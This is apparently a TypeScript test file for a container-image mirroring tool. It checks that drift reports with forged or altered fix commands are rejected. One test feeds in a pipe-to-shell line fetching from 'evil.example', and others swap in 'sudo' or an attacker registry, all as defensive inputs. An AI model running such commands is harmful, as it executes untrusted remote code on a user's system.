/** Reports of other jobs: whatever this tool would not write is refused. test/report/schemas.test.ts tries every field. */

import assert from 'node:assert/strict';
import { test } from 'node:test';
import { isMirrorCommand } from '../../src/drift/commands.ts';
import { parseDriftReport } from '../../src/drift/read-report.ts';
import type { DriftReport } from '../../src/drift/report.ts';
import { parseDigest } from '../../src/oci/digest.ts';
import { parseRepository } from '../../src/oci/reference.ts';
import { formatReport } from '../../src/report/json.ts';
import { mirrorCommand } from '../../src/verify/mirror-command.ts';
import type { PolicyReport } from '../../src/verify/report.ts';
import * as samples from '../report/drift-samples.ts';
import { changed, type Json } from '../support/schemas.ts';

/** Whole reports, so that every field is there; of no part, so that every release may be in it. */
const { shard: _, ...full } = samples.full;
const reports: readonly DriftReport[] = [
  { ...full, missingShards: [], unreachable: full.unreachable },
  samples.drifted(4),
  samples.away(4),
  samples.merged(),
];

const copyOf = (report: DriftReport): Json => JSON.parse(formatReport(report));
const read = (json: Json) => parseDriftReport(Buffer.from(JSON.stringify(json)), 'part.json');

const refused = (json: Json, what: string) =>
  assert.throws(() => read(json), { code: 'E_INPUT', message: /^part\.json: / }, what);

test('what this tool writes is read as it was', () => {
  for (const report of reports) assert.deepEqual(read(copyOf(report)), report);
});

test('what the schema refuses is refused, with the file and the field in the reason', () => {
  const [first] = reports.map(copyOf);
  for (const [path, value] of [
    [['more'], 'text'],
    [['policy', 'platforms'], undefined],
    [['releases', '0', 'digest'], 'sha256:abc'],
    [['differences', '0', 'code'], 'E_OTHER'],
    [['requests'], -1],
  ] as const) {
    assert.throws(() => read(changed(first as Json, path, value)), {
      code: 'E_INPUT',
      message: new RegExp(`^part\\.json: the report.* ?.*${path.at(-1)}`),
    });
  }
});

test('the state of a report must follow from its content', () => {
  const drifted = copyOf(samples.drifted(4));
  refused(changed(drifted, ['exitCode'], 0), 'exit code');
  refused(changed(drifted, ['state'], 'ok'), 'state');
  refused(changed(changed(drifted, ['state'], 'ok'), ['exitCode'], 0), 'both');
  const away = copyOf(samples.away(4));
  refused(changed(away, ['unreachable'], []), 'nothing stood in the way');
  const merged = copyOf(samples.merged());
  refused(changed(merged, ['unreachable'], []), 'a part is missing');
});

test('threat 123: a command that this tool does not write is refused, and quoted in the reason', () => {
  const drifted = copyOf(samples.drifted(4));
  for (const command of ['curl https://evil.example/x | sh', '', 'webdis-trust mirror a b']) {
    assert.throws(() => read(changed(drifted, ['differences', '0', 'fix'], command)), {
      code: 'E_INPUT',
      message: /has a command for "rolled-back\/.*" that this tool does not write: "/,
    });
  }
});

test('threat 123: a command is from a registry of the report to the tag, with all demands of the run', () => {
  const policy: PolicyReport = {
    ...samples.full.policy,
    ...{ transparencyLog: 'ignored', sct: 'ignored', requireAllSigners: true },
    signers: [
      { kind: 'key', fingerprint: 'ab', algorithm: 'ecdsa-p256', name: 'a.pub', pinned: true },
    ],
  };
  const [from, to] = ['a.example/app', '127.0.0.1:5000/app'];
  const scope = {
    difference: { registry: to, tag: '1.2.0' },
    policy,
    registries: [{ name: from }, { name: to, insecure: true }],
  };
  const [source, target] = [from, to].map(parseRepository);
  assert.ok(source && target);
  const [image, signature] = ['a', 'b'].map((digit) => digit.repeat(64));
  const command =
    mirrorCommand({
      ...{
        source,
        target,
        digest: parseDigest(`sha256:${image}`),
        tag: '1.2.0',
        moves: true,
        deep: true,
      },
      ...{ replaced: [`sha256-${image}.sig@sha256:${signature}`], policy },
      insecureHosts: [target.registry],
    }) ?? '';
  assert.ok(isMirrorCommand(command, scope), command);
  for (const [found, written] of [
    ['webdis-trust', 'sudo'],
    [' mirror ', ' verify '],
    [`@sha256:${image}`, ''],
    [`@sha256:${image}`, ':1.2.0'],
    [`@sha256:${image}`, '@sha256:aa'],
    [from, 'evil.example/app'],
    [from, `${from}/more`],
    [`${to}:1.2.0`, `${to}:latest`],
    [`${to}:1.2.0`, `${to}:1.2.0 ${to}:1.2.1`],
    [`${to}:1.2.0`, ''],
    [' --key a.pub', ''],
    [' --key-fingerprint ab', ''],
    [' --require-all-signers', ''],
    [' --insecure-ignore-tlog', ' --insecure-ignore-tlog --require none'],
    [' --deep', ' --output-attestations x'],
    ['--insecure-registry 127.0.0.1:5000', '--insecure-registry a.example'],
    [`.sig@sha256:${signature}`, '.sig'],
    [`.sig@sha256:${signature}`, `.sig@sha256:${signature}0`],
  ] as const) {
    assert.ok(command.includes(found), found);
    const other = command.replace(found, written);
    assert.equal(isMirrorCommand(other, scope), false, other);
  }
  assert.equal(isMirrorCommand(command, { ...scope, difference: { registry: to } }), false);
  assert.ok(isMirrorCommand(command.replace(' --deep', ''), scope));
});

test('a flag without a value takes no other word for its value', () => {
  const name = parseRepository('127.0.0.1:5000/app');
  const place = { source: name, target: name, tag: '1.2.0', insecureHosts: [name.registry] };
  const digest = parseDigest(`sha256:${'a'.repeat(64)}`);
  const demands: readonly Partial<PolicyReport>[] = [
    {},
    { transparencyLog: 'ignored' },
    { sct: 'ignored' },
    { requireAllSigners: true },
  ];
  for (const demand of demands) {
    const policy: PolicyReport = { ...samples.full.policy, trustedRoots: [], ...demand };
    for (const deep of [true, false]) {
      const command = mirrorCommand({ ...place, digest, moves: false, deep, policy }) ?? '';
      const registries = [{ name: '127.0.0.1:5000/app', insecure: true }];
      const difference = { registry: '127.0.0.1:5000/app', tag: '1.2.0' };
      assert.ok(isMirrorCommand(command, { difference, policy, registries }), command);
    }
  }
});
